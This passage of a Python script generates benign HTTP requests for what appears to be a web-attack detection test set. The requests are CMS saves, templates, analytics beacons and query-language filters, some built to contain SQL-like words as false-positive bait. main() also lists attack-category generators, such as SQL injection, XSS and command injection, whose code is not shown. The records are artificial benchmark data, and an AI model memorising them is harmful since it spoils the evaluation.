            d = b_body("POST", "/admin/pages/save", f"page_id={R.randint(1, 300)}&html={bq(html)}&publish=1", "application/x-www-form-urlencoded")
        else:
            d = b_body("PUT", f"/api/cms/blocks/{uuid4()}", json.dumps({"type": "rich_text", "html": html, "locale": "en-IE"}, ensure_ascii=False), "application/json")
        out.append(benign_record("richtext", d, "rich-text editor save with safe HTML"))
    return out


def gen_benign_templates():
    out = []
    tmpls = [
        "Hi {{ first_name }}, your order #{{ order.number }} ships on {{ ship_date | date: '%b %d' }}.",
        "Dear {{customer.name}},\nThanks for shopping with us! Total: {{ order.total | money }}",
        "Hello ${firstName}, your appointment is at ${time}.", "Reminder: {{ event.title }} starts in {{ minutes }} minutes",
        "{% if user.vip %}Welcome back, VIP!{% else %}Welcome!{% endif %}", "Your code is {{code}}. It expires in 10 minutes.",
        "Hi %FIRSTNAME%, your invoice %INVOICE_ID% is ready.", "Bonjour {{ prénom }}, votre commande est prête.",
    ]
    for i in range(60):
        t = R.choice(tmpls)
        d = b_body("POST", R.choice(["/api/marketing/templates", "/api/notifications/templates", "/admin/email/templates"]),
                   json.dumps({"name": R.choice(["order_shipped", "reminder", "welcome", "otp"]), "subject": R.choice(["Your order", "Reminder", "Welcome!"]), "body": t, "channel": R.choice(["email", "sms"])}, ensure_ascii=False), "application/json")
        out.append(benign_record("templates", d, "marketing/notification template with placeholders"))
    return out


def gen_benign_tracking():
    out = []
    for i in range(80):
        page = R.choice(["https://shop.example.com/products/union-jack-cushion?utm_source=newsletter&utm_medium=email&utm_campaign=may_drop",
                         "https://www.example.org/blog/select-the-right-plan", "https://app.example.net/checkout?step=2",
                         "https://shop.example.com/search?q=drop+earrings"])
        title = R.choice(["Union Jack Cushion | Shop", "Select the right plan & save", "Checkout – Step 2 of 3", "Search: drop earrings"])
        t = (f"/g/collect?v=2&tid=G-{rand_token(10, string.ascii_uppercase + string.digits)}&gtm=45je45k0&_p={R.randint(10**9, 10**10)}&cid={R.randint(10**8, 10**9)}.{1716000000 + i}"
             f"&ul=en-us&sr=1920x1080&_s={R.randint(1, 9)}&sid={1716000000 + i}&sct=3&seg=1&dl={bq(page)}&dt={bq(title)}&en=page_view&_ee=1")
        if i % 2:
            t = f"/collect?{'&'.join(['utm_source=google', 'utm_medium=cpc', 'utm_campaign=' + bq('select & save'), 'gclid=' + rand_token(40), 'fbclid=' + rand_token(60)])}"
        out.append(benign_record("tracking", b_get(t, accept="*/*"), "analytics beacon with URLs and titles in parameters"))
    return out


QUERY_DSL = [
    ("/odata/Products", "$filter=" + "Name eq 'O''Brien Tweed Cap' and Price gt 20", "odata"),
    ("/odata/Orders", "$filter=" + "Status eq 'Shipped' or Status eq 'Delivered'&$orderby=OrderDate desc&$top=50&$select=Id,Total,Status", "odata"),
    ("/odata/Customers", "$filter=" + "startswith(LastName,'D''A') and City ne null&$expand=Orders($select=Id)", "odata"),
    ("/odata/People", "$filter=" + "contains(Notes,'union') and Age ge 18 and Age le 65&$count=true", "odata"),
    ("/api/search", "q=" + "title:(union OR select) AND status:published AND NOT author:bot", "lucene"),
    ("/api/search", "q=" + "body:\"drop shipping\" OR tags:(dropship || fulfilment)", "lucene"),
    ("/api/logs", "query=" + "level:error AND message:\"timeout\" AND service:(api OR worker) | stats count() by host", "log query"),
    ("/api/users", "filter=" + "name==\"O'Brien\";age>30,city=in=(Dublin,Cork)", "rsql"),
    ("/api/items", "filter[name]=" + "O'Neil" + "&filter[created_at][gte]=2024-01-01&sort=-created_at,name&page[size]=25", "json:api"),
    ("/api/tickets", "where=" + "status in ('open','pending') and priority >= 2&order=updated_at desc", "sql-like filter"),
    ("/api/metrics", "query=" + "sum(rate(http_requests_total{job=\"api\",status=~\"5..\"}[5m])) by (route)", "promql"),
    ("/api/reports", "expr=" + "revenue - refunds > 0 && region != 'EU'", "expression filter"),
    ("/api/v1/traces", "q=" + "service.name = \"checkout\" and duration > 500ms", "trace query"),
    ("/jira/rest/api/2/search", "jql=" + "project = SHOP AND status != Done AND text ~ \"select union\" ORDER BY created DESC", "jql"),
    ("/api/graph", "cypher=" + "MATCH (u:User)-[:BOUGHT]->(p:Product) WHERE p.name CONTAINS 'Jack' RETURN u.name LIMIT 10", "cypher"),
]
MONGO_FILTERS = [
    {"$or": [{"status": "active"}, {"last_login": {"$gt": "2024-01-01"}}], "name": {"$regex": "^O'B", "$options": "i"}},
    {"tags": {"$in": ["sale", "new"]}, "price": {"$gte": 10, "$lte": 50}},
    {"$and": [{"country": "IE"}, {"$or": [{"plan": "pro"}, {"seats": {"$gt": 5}}]}]},
    {"query": {"bool": {"must": [{"match": {"title": "union jack"}}], "filter": [{"range": {"price": {"lte": 40}}}]}}, "size": 20},
    {"query": {"query_string": {"query": "(select OR union) AND category:furniture", "default_field": "title"}}},
    {"sql": "SELECT region, SUM(amount) FROM sales WHERE year = 2024 GROUP BY region", "format": "csv", "dashboard_id": 12},
]


def gen_benign_query_dsl():
    out = []
    for i in range(90):
        path, q, kind = QUERY_DSL[i % len(QUERY_DSL)]
        name, _, value = q.partition("=")
        rest = ""
        if "&" in value and kind in ("odata", "json:api", "sql-like filter"):
            value, _, rest = value.partition("&")
            rest = "&" + rest
        enc = bq(value) if i % 3 else quote(value, safe="(),:'$=")
        d = b_get(f"{path}?{name}={enc}{rest.replace(' ', '%20')}", accept="application/json")
        out.append(benign_record("query_dsl", d, f"{kind} filter expression in query"))
    for i in range(30):
        f = MONGO_FILTERS[i % len(MONGO_FILTERS)]
        path = "/api/analytics/query" if "sql" in f else R.choice(["/api/customers/search", "/api/_search", "/api/products/query"])
        d = b_body("POST", path, json.dumps(f, ensure_ascii=False), "application/json")
        out.append(benign_record("query_dsl", d, "JSON query DSL (mongo / elasticsearch / BI tool) in body"))
    return out


def gen_benign():
    parts = [gen_benign_query_dsl(), gen_benign_names(), gen_benign_prose(), gen_benign_forum(), gen_benign_search(), gen_benign_redirect(), gen_benign_tokens(),
             gen_benign_i18n(), gen_benign_longtext(), gen_benign_rest(), gen_benign_graphql(), gen_benign_browser(), gen_benign_upload(),
             gen_benign_static(), gen_benign_tools(), gen_benign_forms(), gen_benign_richtext(), gen_benign_templates(), gen_benign_tracking()]
    out = []
    for p in parts:
        out.extend(p)
    return out


# --------------------------------------------------------------------------------------------
# Output
# --------------------------------------------------------------------------------------------

KEY_ORDER = ["id", "label", "category", "method", "target", "headers", "body", "body_b64", "note"]


def write(name, prefix, records):
    path = os.path.join(HERE, name)
    counters = {}
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        for r in records:
            if r["label"] == "benign":
                key = f"benign-{r['category']}"
            else:
                key = r["label"] if r["label"] != prefix else prefix
            counters[key] = counters.get(key, 0) + 1
            r["id"] = f"{key}-{counters[key]:04d}"
            obj = {k: r[k] for k in KEY_ORDER if k in r}
            f.write(json.dumps(obj, ensure_ascii=False) + "\n")
    return len(records)


def main():
    files = [
        ("sqli.jsonl", "sqli", gen_sqli),
        ("xss.jsonl", "xss", gen_xss),
        ("traversal.jsonl", "traversal", gen_traversal),
        ("rfi.jsonl", "rfi", gen_rfi),
        ("cmdi.jsonl", "cmdi", gen_cmdi),
        ("jndi.jsonl", "jndi", lambda: gen_jndi() + gen_java_deser()),
        ("php.jsonl", "php", gen_php),
        ("ssti.jsonl", "ssti", gen_ssti),
        ("sensitive_file.jsonl", "sensitive_file", gen_sensitive),
        ("scanner.jsonl", "scanner", gen_scanner),
        ("protocol.jsonl", "protocol", gen_protocol),
        ("benign.jsonl", "benign", gen_benign),
    ]
    total = 0
    for name, prefix, gen in files:
        n = write(name, prefix, gen())
        total += n
        print(f"{name:<24} {n:>6}")
    print(f"{'total':<24} {total:>6}")


if __name__ == "__main__":
    main()
